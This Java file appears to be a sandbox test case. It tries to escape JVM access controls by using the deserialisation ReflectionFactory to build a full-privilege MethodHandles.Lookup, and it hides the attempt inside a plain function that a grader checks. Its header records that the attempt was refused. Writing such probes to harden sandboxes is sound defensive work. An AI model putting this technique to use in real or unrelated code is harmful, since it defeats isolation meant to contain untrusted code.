// Tries: get any private constructor made accessible by the factory that deserialisation uses
// Group: worker
// Ends: refused: Your code failed a test: f(1) gave 0, but 2 was expected.
import java.lang.invoke.MethodHandles;
import java.lang.reflect.Constructor;

class Hw {
    static boolean done;

    static int f(int x) {
        try {
            attack();
        } catch (Throwable refused) {
            done = false;
        }
        return done ? x + 1 : 0;
    }

    static void attack() throws Throwable {
        Class<?> factory = Class.forName("sun.reflect.ReflectionFactory");
        var constructor = MethodHandles.Lookup.class.getDeclaredConstructor(Class.class, Class.class, int.class);
        Object made = factory.getMethod("newConstructorForSerialization", Class.class, Constructor.class)
                .invoke(factory.getMethod("getReflectionFactory").invoke(null), MethodHandles.Lookup.class, constructor);
        done = ((Constructor<?>) made).newInstance(Object.class, null, -1) != null;
    }
}
